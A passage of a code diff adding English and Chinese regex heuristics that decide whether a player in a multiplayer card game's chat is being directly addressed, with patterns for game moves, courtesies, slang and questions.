+const BIDDEN_EN = /^\s(?:(?:please|pls|just) )*(?:(?:finish|kill|heal|save|leave|attack|slash|get|help|stop|focus) (?:him|her|them|it|me|us|\d|seat \d|the lord)\b(?! (?:is|was|again|every))|wait\b|watch (?:out|this|him|her)\b|look (?:out|at)\b|focus\b|(?:please|pls) \w+)/;
+const PRESSED_EN = /^\s*,\s*(?:truce|deal)\s*\?*$/;
+const NO_OBJECT_EN = /(?:\d|[a-z]{3,}) $/;
+const VERB_EN = /\b(?:kill|hit|attack|slash|strike|help|save|heal|finish|about|on|with|for|to|at|is|are|and) $/;
+const HAILED_EN = /\b(?:let'?s go|come on|go go|(?:there|here) (?:you|ya|u) go|(?:\w+ing|to|at|about|with) (?:you|u))\s$/;
+const LISTED_NEXT = /^\s*,\s*(?:\d|[一二三四五六七八九])号?(?:都|全|也|[,、])/;
+const PUT_NEXT = /^\s*,\s*(?:我|咱|any last words|please|pls\b)/;
+const COURTESY_BEFORE = /(?:(?<![不别要])谢[谢了啦]?|多谢|感谢|辛苦|对不起|对不住|抱歉|\b(?:thanks|thank you|thx|ty|sorry|sry|soz|my bad|apologies|congrats|good (?:job|man|lad|girl|boy)|nice (?:one|job|play|kill|save|move)|well (?:done|played)|gj|bravo))\s*$/;
+const COURTESY_AFTER = /^[\s,]*(?:我|真的?|实在|这[回次下]|刚才?)*(?:对不起|对不住|抱歉|不好意思|谢(?!幕)|辛苦)/;
+function turnsTo(after) {
+	const you = YOU5.exec(after);
+	return you !== null && !/在[打杀砍拆顺追盯][着了]?$/.test(after.slice(0, you.index));
+}
+const OPINES = /^\s*(?:怎么|咋|到底|自己|那边|现在|先|还|也|都|是|真的?)*(?:觉得|认为|怀疑|信我|打算|准备|想|定(?:个|夺)|指(?:个|条)|表(?:个)?态|决定)|^\s+(?:who|what|how|where)(?:'?s)?\b/;
+const ASKS_OR_BIDS = /谁|哪|怎么|咋|什么|啥|吗|呢|[不?]|拍板|[个下](?:板|令|话|态|主)|做主|\b(?:who|what|how|where)/;
+function standsApart({ name, before, after }) {
+	if (/^[@#]/.test(name) || /@\s*$/.test(before)) return true;
+	if (isNone(name, after)) return false;
+	if (CALL_BEFORE.test(before) && (CALLS_AFTER.test(after) || PUT_TO.test(after))) return true;
+	if (BEGINS.test(before) && ONLY_CALLED.test(after)) return true;
+	if (PRAISED.test(before) || CALL_BEFORE.test(before) && SORRY_NEXT.test(after)) return true;
+	if (/^你(?!们|俩)/.test(after) && !DONE_TO.test(before)) return true;
+	return /^[\s.!?~]*$/.test(after) && /[,!?]\s*$/.test(before);
+}
+const isNone = (name, after) => SAID_OF.test(after) || /^(?:the|our) /.test(name);
+const THANKS_AHEAD = /^(?:\w+,? )?(?:thanks|thank you|ty|thx|tysm)\b[^.!?]*\s$/;
+function isPutTo({ text, name, before, after, alone }) {
+	if (isNone(name, after)) return false;
+	const office = OFFICE.test(name);
+	if (office && /^[\u3400-\u9fff]$/.test(before) && CALL_AFTER.test(after)) return true;
+	if (/[?!.,]\s*$/.test(before) && /^\s/.test(after) && /[\u3400-\u9fff]/.test(text)) return true;
+	if (BEGINS.test(before) && /^\s*(?:你(?!们)|您|妳|阁下)/.test(after)) return true;
+	if (COURTESY_BEFORE.test(before) && !(/[\u3400-\u9fff]\s$/.test(before) && /^[\u3400-\u9fff]/.test(after)))
+		return true;
+	if ((BEGINS.test(before) || AT_HEAD.test(before)) && COURTESY_AFTER.test(after)) return true;
+	if (BEGINS.test(before) && BIDDEN.test(after)) return true;
+	if (office && BEGINS.test(before) && /^\s*(?:这(?:一)?(?:轮|回合)|快|赶紧|直接|可以)/.test(after) && !/[了过]|^[^,.!?]*(?:又|刚|被|连着|已经)/.test(after))
+		return true;
+	if (AT_HEAD.test(before) && BIDDEN.test(after)) return true;
+	if (BEGINS.test(before) && SUMMONED.test(after)) return true;
+	if ((AT_HEAD.test(before) || BEGINS.test(before)) && BIDDEN_EN.test(after)) return true;
+	if (PRESSED_EN.test(after) && NO_OBJECT_EN.test(before) && !VERB_EN.test(before)) return true;
+	if (HAILED_EN.test(before) && /^\s*(?:[,.!?]|$)/.test(after)) return true;
+	if (/[!?.]\s*$/.test(before) && /^\s*,/.test(after) && (YOU5.test(after) ? !LISTED_NEXT.test(after) : PUT_NEXT.test(after)))
+		return true;
+	if (office && THANKS_AHEAD.test(before) && /^\s*(?:[,.!?]|$|u\b|ur\b|you)/.test(after)) return true;
+	if (AT_HEAD.test(before) && /^(?:老?兄|老?哥|老弟|贤弟|姑娘|将军|先生|大人|大侠)(?=[,!?])/.test(after)) return true;
+	if (/[\u3400-\u9fff]\s*,\s*$/.test(before) && /^\s*,(?!\s*(?:\d|[一二三四五六七八]号))/.test(after) && YOU5.test(text))
+		return true;
+	if (office && /\b(?:then|so|and|but)\s$/.test(before) && /^\s(?:please|pls|you|u)\b/.test(after)) return true;
+	if (/[a-z\d],\s*$/.test(before) && /^\s*(?:[.!?]|$)/.test(after)) return true;
+	if (AT_HEAD.test(before) && (CALL_AFTER.test(after) || alone && turnsTo(after))) return true;
+	if (AT_HEAD.test(before) && PUT_TO.test(after)) return true;
+	if (AT_HEAD.test(before) && OPINES.test(after) && ASKS_OR_BIDS.test(after)) return true;
+	if (/^\s*,\s*(?:you|u|your|ur)\b/.test(after)) return true;
+	if (office && /[,;]\s*$/.test(before) && /^\s*[,.!?;]/.test(after)) return true;
+	return /^[\s.!?~]*$/.test(after) && CALL_AT_END.test(before);
+}
+
+// src/chatter/moves/calls-en.ts
+const YOU6 = /\b(?:you|u|ya|your|ur|youre|yourself|urself|uve|youve)\b/;
+const HE2 = /\b(?:he|him|his|she|her|they|them)\b/;
+const MARK2 = "(?:^|[,.!?;:~)])\\s*";
+const LAST_CLAUSE = /[^,.!?;:~)]*$/;
+const CLOSES = /^\s*(?:(?:lol|lmao|lmfao|haha\w*|bro|bruh|dude|man|pls|please|ok|okay|tho|though|smh|ffs|wtf|huh|eh|right)\b\s*)*(?:[,.!?;:~)]|$)|^\s+(?:you|u|ur|youre|you're)\b/;
+const PREPOSITION = "about|on|onto|upon|with|without|for|to|at|of|off|by|from|before|after|like|than|over|against|in|into|under|around|behind|through|towards?|near|beside|except|but|besides|between|until|till|per|as|via|plus|minus|versus|vs";
+const LINK2 = "and|or|nor|not|is|isnt|isn't|are|was|wasnt|wasn't|were|be|being|been|its|it's|he's|hes|she's|shes|that's|thats|whos|who's|im|i'm|if|when|while|because|cause|cuz|since|unless|that|where|whether|both|either|neither|only|just|even|maybe|probably|perhaps|possibly|exactly|least|most|last|first|round|turn|(?<!\\b(?:my|your|ur|his|her) )seat|player|number|a|an|the|this|these|those|all|every|each|some|any|no|more|other|another|my|our|your|ur|his|her|their|whose|which|will|would|can|could|should|does|did|do|has|have|had|got|gets?|gotta|gonna|wanna";
+const DEED3 = "(?:kill|hit|attack|slash|strik|struck|help|sav|heal|finish|trust|believ|suspect|target|focus+|burn|steal|stole|stolen|rob|hat|lik|lov|want|need|think|thought|follow|back|protect|support|fear|blam|accus|ignor|spar|duel|chain|see|saw|seen|keep|kept|know|knew|known|check|watch|tak|took|taken|giv|gave|given|mak|made|let|leav|left|tell|told|ask|call|pick|choos|chose|guess|bet|play|us|draw|drew|lose|lost|cost|deal|dealt|discard|drain|cut|lock|shut|bully|push|poison|zap|shoot|shot|nuk|wast|snatch|disarm|dismantl|tear|tore|sham|remember|forget|forgot|mention|name|say|said|read|show|prov|admir|thank|guard|cover|cheer|envy|pass|skip|beat|wipe|smack|punch|fight|fought|fac|counter|block|negat|nullif|borrow|return|feed|fed|respect|hunt|track|mark|tag|ditch|put|plac|rank|rat|peach|indulg|null|drop|sid|team|pok|bust|expos|frame|threaten|provok|mock|insult|bore|own|ow|mean|meant|become|became|seem|look|sound|send|sent|rais|low|reach|stay|call)(?:e|es|s|d|ed|ied|ies|ing|ting|ping|bing|ling)?";
+const TAKES = new RegExp(`\\b(?:${PREPOSITION}|${LINK2}|${DEED3})\\s$`);
+const OF_SOMEBODY = new RegExp(`\\b(?:${PREPOSITION}|${LINK2})\\s$`);
+const THING = /\b(?:a|an|the|my|your|ur|any|some|one|no|that|this|another)\s(?:(?:right|wrong|good|bad|nice|big|whole|next|last|same|single|damn|fucking|little|bit of)\s)?\w+\s$/;
+const GIVES = /\b(?:give|gave|owe|owed|dealt|cost|handed|lend|lent|healed|hit|draw|drew) (?:you|u|ya|me|him|her|us|them|it) $/;
+const PARTICIPLE = /\b\w+(?:ing|ed)\s$/;
+const WHOLE3 = /\b(?:kidding|joking|doing|thinking|going|talking|losing|winning|dying|bluffing|lying|trolling|griefing|cheating|waiting|sleeping|laughing|crying|smiling|nothing|something|anything|everything|thing|scared|tired|worried|screwed|doomed|finished|cooked|toasted|fried|pleased|satisfied|relieved|surprised|confused|impressed|rigged|dead|red|need)\s$/;
+const ASKS_OBJECT = /\b(?:what|whatcha|wut|wat|who|whom|wyd)(?:'?(?:s|re|d))?\s+(?:(?:do|did|are|r|were|would|will|should|can|could|have|must)\s+)?(?:you|u|ya)\b(?:(?!\b(?:i|he|she|they|we|before|after|when|if|because|cuz)\b)[^,.!?;])*\s$/;
+const WHAT_FOR2 = /\b(?:what(?:'?s| was| is)?\s+(?:(?:that|this|it|all that)\s+)?(?:all\s+)?for|what(?:'?s| is| was) (?:that|this))\s$/;
+const EXCLAIMS = new RegExp(
+	`${MARK2}(?:\\w+\\s+)?(?:that'?s|that was|this is|how|so|too|pretty|very|damn|real|really|bit)\\s+(?:(?:so|too|pretty|very|really|kinda|a bit|a little|just|super|fucking|freaking)\\s+)*(?:rough|tough|rude|cold|harsh|mean|crazy|insane|wild|nuts|brutal|sick|nice|great|awesome|cool|sweet|clever|smart|dumb|stupid|silly|bold|brave|sus|fishy|weird|odd|strange|unlucky|lucky|sad|funny|hilarious|fair|unfair|enough|bs|bullshit|cheap|dirty|wrong|right|true|cap|disgusting|gross|fire|clean|smooth|slick|evil|savage|ruthless|impressive|good|bad|awful|terrible|annoying|petty|toxic|lame|sneaky|shady|greedy|low|grim|nasty|filthy|foul|heartless|unreal|epic|pathetic|weak|sloppy|spicy|genius)\\s$`
+);
+const CHEERS = /\b(?:nice|good|great|sick|clean|dirty|cheap|bold|lovely|sweet|solid|clutch|huge|big|what an?) (?:\w+ )?(?:move|play|shot|hit|one|try|kill|save|card|turn|job|peach|duel|slash|block|steal|luck|game|call|read|timing|work|draw)\s$/;
+const THANKED = /\b(?:thanks|thank you|thx|ty|cheers) (?:a lot|so much|again|for (?:nothing|that|it|the \w+|\w+ing (?:me|us|him|her|it|that)))\s$/;
+const CRIED = new RegExp(
+	`${MARK2}(?:(?:oh|ok|well|so|and|but|yo|hey|aw+|lol|haha+)\\s+)*(?:wyd|wtf|wth|bruh|stop (?:it|that)|hang (?:in there|tight)|stay (?:alive|strong|with (?:me|us))|cut it out|knock it off|easy|careful|relax|chill|calm down|hands off|back off|behave|watch (?:it|out)|look out|(?:you|u|ur|your|youre|you're) (?:turn|up|next|move)|truce|deal|(?:just )?(?:surrender|give up)(?: now)?|last chance|final (?:warning|offer|chance)|help me|save me|heal me|trust me|spare me|believe me|forgive me|why me|do it|don'?t do it|speak up|spill it|fess up|out with it|answer me|wake up|hurry(?: up)?|your move|well played|bye|see (?:ya|you|u)|good luck|congrats|(?:you|u) too|exactly|agreed|no way|seriously|shut up|admit it|just admit it|prove it|explain)\\s$`
+);
+const BIDDEN_WHOLE = /^(?:\w+\s+){0,2}?(?:don'?t|do not|please|pls|let'?s|lets|let|stop|kill|hit|get|save|heal|spare|trust|believe|help|finish|give|leave|focus|take|slash|attack|watch|go|come|we|i|just|thanks|sorry)\b[^,.!?;]*\b(?:me|him|her|it|us|live|go|die|win|alone|now|again|please|pls|first|instead|already|there|here|too|then|today|fast|quick|asap|turn)\s$/;
+const BIDDEN_US = /^(?:\w+\s+){0,2}?(?:don'?t|do not|please|pls|let|stop|spare|trust|believe|help|leave|watch|come|save|heal)\b[^,.!?;]*\b(?:me|him|her|it|us|alone|again|already|please|pls)\s$/;
+const BIDS = /^(?:\w+\s+){0,2}(?:thanks|thx|ty|cheers|kill|hit|get|slash|attack|finish|save|heal|focus|duel|burn)\b/;
+const OFFICE2 = /^(?:lord|my lord|boss|my king|my liege|your majesty)$/;
+const AT_HEAD2 = /^(?:(?:honestly|seriously|actually|literally|frankly|tbh|ngl|aw+|oh|ah|o+f|lm+f?ao|lol|(?:ha)+h?|hm+|come on|c'?mon|excuse me|listen|look|damn|man|dude|bro|bruh|please|pls|for real|real talk|my friend|jeez|ouch|sheesh|welp|alright|all right|ok|okay|so|and|but|well|now|then|also|wait|hold on|hold up|hang on|yo|hey|hi|oi|btw|no offense|shut up|stfu|relax|chill|easy|no|nah|yes|yeah|yep|ya|sure|fine|cool|question|sup|gg|wtf|wth|omg)[\s,!]+)*$/;
+const HAILED = /(?:^|[,.!?;:\s])(?:come on|c'?mon|excuse me|hey|yo|oi|listen|dude|bro|shut up|stfu|relax|chill|hold on|hold up|hang on|easy|no offense|not cool|real talk)[\s,!]*$/;
+const TOLD_OF = /^\s*(?:(?:just|also|really|still|even|always|never|clearly|already|def|definitely|probably|literally|actually|keeps?)\s+)*(?:is|isnt|isn't|was|wasnt|has|had|hasnt|does|doesnt|doesn't|did|didnt|didn't|will|wont|would|looks?|seems?|must|cant|can't|could|might|gets?|got|took|hit|gave|stole|cut|went|and|or|vs|'s)\b|^\s*(?:(?:just|also|really|even|already)\s+)*\w{3,}(?:ed|[^s']s)\b(?<!\b(?:thats|whats|whos|hows|wheres|lets|its|this|please|always|cards|yes|does|miss|nerves|hands|guess|press|dress|bless|kiss|pass|plus))/;
+const FOR_YOU = /^[24]$/;
+const TURNS_TO_YOU = /^\s*(?:(?:seriously|really|honestly|bro|dude|man|wtf|lol|omg)\b)?[\s,]*(?:you|u|ya|ur|your|youre|you're|u're)\b(?!\s+(?:guys|all|two|both|were there))/;
+const HARM2 = "kill|hit|touch|slash|attack|strike|waste|use|do|let|be|worry|listen|believe|forget|save|heal|help|go|give|play|panic|die|leave|make|start|stop|steal|take|mess|fall|act|tell|say|throw|bother|duel|burn|trust (?:him|her|them|that|this|\\d|seat)";
+const BIDDEN2 = new RegExp(
+	`^\\s+(?:(?:pls|please|just)\\s+)*(?:(?:don'?t|do not|never)\\s+(?:(?:even|ever|you|u)\\s+)?(?:${HARM2})\\b|(?:stop|quit|chill|relax|hands off|back off|lay off|cut it|cut that|knock it|shut|explain|admit|confess|prove|show (?:me|us|your|ur)|tell (?:me|us|the|him|her)|give (?:me|us|it)|trust me|believe me|talk to me|gut feeling|(?:changed|made up) (?:your|ur) mind|listen|hold (?:on|up|it)|come (?:on|at|help|get)|let(?:'?s| me| us)|shall we|should we|wanna|truce|deal|alliance|ally|team up|well played|wp|good (?:game|luck|job|one)|thanks|thx|sorry|my bad|any (?:chance|plans|idea)|mind (?:if|telling|your)|spill|be (?:honest|real|nice|careful|quiet|gentle|patient|serious)|go (?:easy|for|get|hit|kill|after|ahead)|just (?:say|admit|tell|do|go|stop|save|kill|end)|nice (?:try|one|job))\\b)`
+);
+const TELLS = new RegExp(`${MARK2}(?:(?:go|someone|somebody|please|pls|and|hey)\\s+)*(?:tell|warn|remind|inform)\\s$`);
+const TOLD_TO = /^\s+(?:(?:both|just|pls|please|go|should|gotta|have to|need to|all|now|quick)\s+)*(?:gang up|team up|focus|kill|attack|slash|save|heal|finish|target|go for|stop|help|burn|duel|jump|get|protect)\b(?!ed)/;
+const isOrderedInEnglish = (before, after, many) => many && AT_HEAD2.test(before) && TOLD_TO.test(after);
+const ASKS_OF_NEXT = /^[\s,]+(?:so\s+)?(?:is|isnt|isn't|was|does|did|do|will|would|should|could|can|has)\s+$/;
+function calledInEnglish(at) {
+	return isBehind(at) || isAhead(at) || isTold2(at);
+}
+const LEADS_ON = /^\s+(?:now|since|after|when|if|given|because|before|once|with|\d+ cards|that(?:'?s| was)|how|what|why)\b/;
+const BEGINS_ASKING = /^\s+(?:i'?m up\b|my (?:go|turn)\b|(?:real )?quick (?:one|q|question)\b|(?:who|what|where)(?:'?s| is| does) (?:he|she)\b|(?:do|should|shall|can) (?:i|we)\b)/;
+const OF_US = /^\s+we\b(?!.*\b(?:kill|hit|trust|focus|attack|get)\b(?! each))/;
+const ASKED_OF = new RegExp(
+	`${MARK2}(?:(?:ok|so|yo|an?|honest|quick|real|last)\\s+)*(?:(?:q|question|read|take|thoughts|gut feeling)(?:\\s+(?:for|to))?|(?:this )?one for)\\s$`
+);
+const isTold2 = ({ before, last }) => TELLS.test(before) && !(last?.kind === "seat" && /^[\s,]*tell\s$/.test(before.slice(last.end)));
+const isNobody = (name, before) => /^(?:the|our) /.test(name) || OFFICE2.test(name) && /\bown $/.test(before);
+const WHOLE_BEFORE = [
+	CRIED,
+	EXCLAIMS,
+	CHEERS,
+	THANKED,
+	WHAT_FOR2,
+	BIDDEN_US,
+	/\b(?:on|at|to|from) me\s*$/,
+	// "worth the card u think zhang hu?"
+	/^(?!.*\b(?:who|what|which|how|where|do|did)\b).+\b(?:you|u|ya) (?:think|reckon|say)\s$/
+];
+function isBehind({ name, before, after, last }) {
+	if (!CLOSES.test(after) || !/\s$/.test(before)) return false;
+	if (ASKED_OF.test(before)) return true;
+	if (isNobody(name, before)) return false;
+	if (FOR_YOU.test(name) && TURNS_TO_YOU.test(after)) return false;
+	const clause = LAST_CLAUSE.exec(before)?.[0]?.trimStart() ?? "";
+	if (/^(?:(?:you|u) )?$/.test(clause)) return false;
+	if (WHOLE_BEFORE.some((whole) => whole.test(clause))) return true;
+	const number = /^\d+$/.test(name);
+	const joined = last?.kind === "seat" && before.slice(last.end) === " ";
+	if (OFFICE2.test(name) && (BIDDEN_WHOLE.test(clause) || joined && BIDS.test(clause))) return true;
+	if (!YOU6.test(clause) || joined && number && /\d\s$/.test(before)) return false;
+	if (joined) return true;
+	if (ASKS_OBJECT.test(clause)) return /\b(?:that|this) $/.test(clause) || !OF_SOMEBODY.test(clause);
+	if (THING.test(clause) && !OF_SOMEBODY.test(clause)) return true;
+	return !TAKES.test(clause) && !(GIVES.test(clause) && number) && (!PARTICIPLE.test(clause) || WHOLE3.test(clause));
+}
+function isAhead({ text, name, before, after, next }) {
+	const head = AT_HEAD2.test(before);
+	if (!head) return HAILED.test(before) && /^\s/.test(after) && !TOLD_OF.test(after);
+	if (TURNS_TO_YOU.test(after) || BIDDEN2.test(after) || OF_US.test(after) || BEGINS_ASKING.test(after)) return true;
+	if (YOU6.test(after) && LEADS_ON.test(after)) return true;
+	const between = next === void 0 || next.kind === "who" ? "" : text.slice(text.length - after.length, next.start);
+	if (ASKS_OF_NEXT.test(between) || between === " " && OFFICE2.test(name) && next?.kind === "seat") return true;
+	if (HAILED.test(before) && !TOLD_OF.test(after) && !/^\s*[,.!?]*$/.test(after)) return true;
+	const you = YOU6.exec(after);
+	if (you === null || OF_WHAT.test(after.slice(you.index))) return false;
+	const card = cardsIn(text).some(
+		({ start }) => start >= text.length - after.length && /^\s+$/.test(text.slice(text.length - after.length, start))
+	);
+	const fragment = /^\s+\w+ing\b/.test(after) || card && !/^\s+(?:slash(?:ed|es)|duel(?:led|s|ed)|dodge[ds])\b/.test(after);
+	return fragment && next !== void 0 && !HE2.test(after.slice(0, you.index));
+}
+const OF_WHAT = /^(?:you|u|ya) (?:think|see|saw|agree|believe|trust|know|heard|guys|all|notice)/;
+
+// src/chatter/moves/calls-zh.ts
+const YOU7 = /你(?!们)|您|妳|阁下/;
+const CLOSES2 = /^\s*(?:[,.!?;:~)]|$)|^\s+(?=[\u3400-\u9fff\d])/;
+const BEGINS2 = "(?:^|[,.!?;:~)\\s])";
+const CRIED2 = new RegExp(
+	`${BEGINS2}(?:漂亮|厉害|牛逼?|干得(?:漂亮|好)|打得(?:好|漂亮)|好样的|加油|稳住|冲啊|醒醒|快点|赶紧的?|等(?:等|下|一下)|站住|闭嘴|滚|求(?:求)?你了?|拜托了?|别(?:急|慌|闹|吵|装|跑|浪|催|抖|理他|信他|打我|砍我|杀我)|信我|救我|帮我|饶了?我|放(?:我一马|过我)|老实交代|(?:快)?坦白|给(?:我)?[个句](?:准|痛快|实在?)?话|表个态|拍个板|吱(?:一)?声|快说|说话|回话|哑巴了|辛苦|恭喜|佩服|服了(?:你)?|行行好|听我的|你等着|等着|走着瞧|不讲武德|不讲道理|不要脸|没良心|过分了?|欺负人|缺德|无耻|卑鄙|阴险|真行|(?:真)?有你的|够狠|够意思|狠人|赢麻了|来啊|来吧|(?:悠着|收敛|快|冷静|小心|稳|注意|老实|轻|慢|早|消停|争气|给力|留神|温柔|大方|机灵)(?:一?点儿?|些))\\s*$`
+);
+const PARTICLE = /(?:[吧吗呢啊呀嘛啦呗哦喔哈嘞咯喽哇]|(?<![什怎这那多要])么)\s*$/;
+const OPINION2 = /(?:觉得|猜|我看|认为|感觉|要我说|依我看|怀疑|比如|就是|还是|不是|那就|谁|[打杀砍拆顺救帮保信给对跟和])[吧啊呢呀嘛么]?\s*$/;
+const ASKED_NOT = /(?:(?<![要岂可从再真就才都])不|(?:有|了|过|完|到|着|好)[^,.!?]{0,8}没)\s*$/;
+const DOUBLED = /(?:([^打杀砍拆顺救帮保信怕恨站投跟选踩像是要管留动疑弄收盯])不\1|可不可以|丢不丢人|要不要脸|要脸不|够不够|慌了?没|懂不懂|懂没|听见没|看见没)\s*$/;
+const HANDLED = /(?:^|[,.!?;:~)\s])(?:快|赶紧|麻烦)?把[^,.!?]{2,}(?:[听看瞧下掉了完好]|出来|[给还]我)$/;
+const PAST2 = new RegExp(
+	`(?:(?:急|烦|笑|气|疼|累|吓|冤|困|饿|慢|愁|羡慕|馋|恨|牙疼)死(?:我|人|俺|老子)?了|死(?:我|人|老子)了|[几\\d一二两三四五六七八九十多少半][滴点血张个轮回合次刀分秒格]{1,2}了|[太真好够][^,.!?\\s]{1,3}(?<![打杀砍拆顺救信不])了|(?:${BEGINS2}|[你都就快真又可])(?:完|急|慌|飘|凉|怂|输|赢|死定|没救|疯|傻|醉|栽|懵|虚|没牌|空手|到你|该你|轮到你|好|够|行|得|绝|怪)了|${BEGINS2}\\s*(?:别|不要|行|好|算|够|得)[^,.!?;:]{0,8}了)\\s*$`
+);
+const ASKED_END = /(?:图(?:个)?(?:啥|什么)|[想要在]?干[嘛啥](?:呢)?|干什么(?:呢)?|(?:几个|什么|啥)(?:意思|情况|身份|成分|来路|路数|毛病|感受|想法|打算)|哪(?:边|伙|头|家|方)的|一(?:伙|家|边|头)的|什么人|(?:怎么|咋)(?:回事|样|办|玩的)|[几多]少?(?:滴?血|张牌?)|认真的|说话不算话|不要脸|够意思|有病)\s*$/;
+const LEAD2 = new RegExp(
+	`${BEGINS2}(?:我?[倒就真很也还只]*[想要得]?请?问(?:问|一下|下|一句|个事)?|说(?:真的|实话|句(?:实话|真话|公道话|良心话|难听的)|到底|白了|正经的?)|讲(?:真的?|道理|句实话)|老实说|老实交代|实话实?说|不瞒你说|话说(?:回来)?|我说|听我说|听好了?|快说|坦白说|求求?你了?|拜托了?|麻烦|劳驾|佩服|服了|可以啊?|牛逼?|漂亮|恭喜|啧+|唉|哎呀|哎哟|卧槽|我去|我靠|我的天|妈呀|好家伙|得了吧?|拉倒吧|醒醒吧?|行了|够了|算了|够狠啊?|好你个|哈+|呵+)\\s*$`
+);
+const TOLD_BEFORE = new RegExp(
+	`${BEGINS2}(?:快|去|再|麻烦|劳驾|(?:你|谁)?(?:帮我?|替我))?(告诉|转告|提醒(?:一下)?|通知|跟|和|同|对)\\s*$`
+);
+const TOLD_AFTER = /^(?:说|讲|提|带|汇报|通报|报告)(?!的|过|了|不|什么|啥|得)(?:一?[声句下]|个?话|话)?/;
+const AT_HEAD3 = /^(?:卧槽|我靠|我去|靠|哇|不是|好家伙|诶+|欸|喂+|嘿+|嗨|哎+|哟|那个|话说|所以|那|对了|还有|另外|说真的|等等|等会|行|好|ok|hey|yo)?[\s,]*$/;
+const LUMPED = /^\s*(?:[,、跟和与]\s*\S{1,4}\s*)?(?:[,]\s*)?(?:都|也都|也是|全|俩|两个|三个|一伙|一家|一起|互|这俩|这两|谁|哪个|哪一个|二选一|选一个)/;
+const LUMPED_LATER = /^[^,.!?]{0,6}(?:俩|两个|一伙的|一家的|互[打砍]|谁更|哪个更)/;
+const DOES_TO_YOU = /^(?:又|刚才?|还|也|都|在|已经|老|一直|居然|竟然|天天|连着|刚刚|要|想|会)*(?:在|来|往)?(?:打|杀|砍|拆|顺|救|帮|保|乐|兵|坑|骗|盯|追|集火|决斗|火攻|给|送|喂|奶|骂|恨|怕)[^你,.!?]{0,4}你/;
+const MIND = /^我[就也还真倒]?(?:觉得|看|猜|怀疑|认为|赌|估计|站|投|选|信|怕|[^,.!?]{0,6}的$)/;
+const ONE_ASKED_ABOUT = /^\s*(?:是|到底是?|究竟是?)?(?:个)?(?:什么|啥)(?:成分|身份|来路|来头|牌|人|货色)|^\s*(?:怎么样|咋样|可信吗?|靠谱(?:吗|不)|靠得住(?:吗|不)|信得过(?:吗|不))/;
+const ASKS3 = /(?:[吗吧么不]|没有?)[\s.?!~]*$|\?|(\S)[不没]\1|是不是|有没有/;
+const ASKS_OTHER = /^(?!(?:[又刚被把在和跟给]|这?是|[打杀砍拆顺救帮])).*(?:谁|哪个|哪位|几号)(?!都|也|家)/;
+const THIRD2 = /[他她它]|这人|那人/;
+const OFFICE3 = /^(?:主公?|主帅|老大|大王|陛下|皇上|圣上)$/;
+const BIDS2 = /赶紧|快(?!死|没|不行|空|倒|挂|输|赢)|别|请|帮忙|(?:救|打|杀|收|帮|管)(?:一?下|他)|小心|注意|悠着/;
+const ORDERS = /^(?:先|快|去|就|赶紧|直接|给我|帮我?)*(?:打|杀|砍|拆|顺|救|集火|收|保|奶|乐|兵|火攻|决斗|盯|弄|干)(?![了过的着])[^,.!?了过]{1,6}(?:[啊吧呗呀嘛]|一[下手刀])(?=[,.!?~\s]|$)/;
+const OF_OTHERS = /^(?:你|您)(?:们|怎么看|咋看|怎么想|咋想|觉得|认为|看到|看见|看(?!戏|着|热闹)|信(?!我)|猜|怀疑)/;
+const CLAUSE_BEGINS = /(?:^|[,.!?;:~)\s])$/;
+const ASKED_OF2 = /^\s*(?:啥|什么|有(?:何|什么|啥)|作何|是?何)(?:感受|感想|想法|看法|意见|说法|反应|心情|高见|打算)|^\s*(?:怎么|咋|如何)(?:看(?!都|也|着|出|上|起|见|的|像)|想(?!都|的|不|起)|说(?!都|也|的|来|呢|话|不))|^\s*(?:出来)?(?:说句话|说两句|讲两句|评评理|吱个声|吱一声|表个态|给[个句](?:话|说法|准[话信]|解释)|觉得(?:[怎咋]么?样|如何|[呢行成])(?=[,.!?]|$)|[看瞅瞧听](?:见|到)了?没有?(?=[,.!?]|$)|解释(?:一下|下|解释)|先[说讲来](?=[,.!?]|$)|(?:发[个句]?话|拍个?板|做个?主|下个?令)(?!了|过|的|说))|^\s*(?:[这下](?:一|个)?(?:回合|轮))?(?:到底|还|是|就|又)*(?:打算|准备)[^,.!?]{1,10}(?:\?|吗|呢|谁|啥|什么|哪)/;
+const DO3 = "(?:盯(?:着|死|住)?|集火|围(?:攻|殴)|追着?|打|杀|砍|拆|顺|弄死?|干|搞|削|揍|收|秒|灭|做掉|乐|兵|保(?:住|一下)?|救(?:一下)?|奶|护(?:着|住)?|管)(?![过完得的]|了(?!他|她|它))";
+const SOON2 = "(?:下(?:个|一)?(?:回合|轮)|等会儿?|等下|待会儿?|一会儿?|一起|一块儿?|赶[紧快]|快|先|去|来|接着|继续|给我|帮我|直接|记得|麻烦|务必|往死里)";
+const TOLD_TO2 = new RegExp(
+	`^\\s*(?:你们|[俩都全就也])*(?:${SOON2}+[都全就]*${DO3}|集火|盯[着死]|保住|护[着住])[^,.!?了我你]|^\\s*(?:你们|你俩|[都俩也])*(?:来|出来)?(?:说说|讲讲|评评|聊聊|表个态|给个话)`
+);
+const ORDERED_FROM = new RegExp(`${BEGINS2}(?:所以|那|快|好)?$`);
+const isOrderedInChinese = (before, after) => ORDERED_FROM.test(before) && TOLD_TO2.test(after) && !/^[^,.!?\s]*(?:刚|又|了(?!他|她|它)|[打杀砍]过)/.test(after);
+function calledInChinese(at) {
+	return isBehind2(at) || isLed(at) || isTold3(at) || isAlone(at) || isAskedOf(at) || isYou(at);
+}
+function isYou({ before, after, alone, last }) {
+	if (!alone || !CLAUSE_BEGINS.test(before)) return false;
+	if (/^\s*[他她](?!们)[^,.!?\s]*你/.test(after)) return before.trim() === "";
+	const turn = YOU7.exec(before);
+	return last?.kind === "you" && turn !== null && /^[^,.!?]*\?/.test(after) && !OF_OTHERS.test(before.slice(turn.index));
+}
+function isBehind2({ before, after }) {
+	if (!CLOSES2.test(after)) return false;
+	if ([CRIED2, DOUBLED, PAST2, HANDLED].some((whole) => whole.test(before))) return true;
+	if (PARTICLE.test(before)) return !OPINION2.test(before);
+	if (ASKED_NOT.test(before)) return true;
+	const clause = /[^,.!?;:~]*$/.exec(before)?.[0] ?? "";
+	return YOU7.test(clause) && ASKED_END.test(before);
+}
+function isLed({ text, before, after, next }) {
+	if (!LEAD2.test(before)) return false;
+	if (/^(?:你(?!们)|您)/.test(after)) return true;
+	if (!/^\s*[,:!]\s*\S|^\s+[\u3400-\u9fff\d]/.test(after)) return false;
+	const rest = after.replace(/^[\s,:!]+/, "");
+	if (next?.kind === "seat" && next.start === text.length - rest.length) return YOU7.test(rest);
+	return YOU7.test(rest) || !/^(?:就|才|都|也|肯定|绝对|八成|多半|一定)?(?:是|像|反|忠|内|可疑|有问题)/.test(rest);
+}
+function isTold3({ before, after, last }) {
+	const told = TOLD_BEFORE.exec(before);
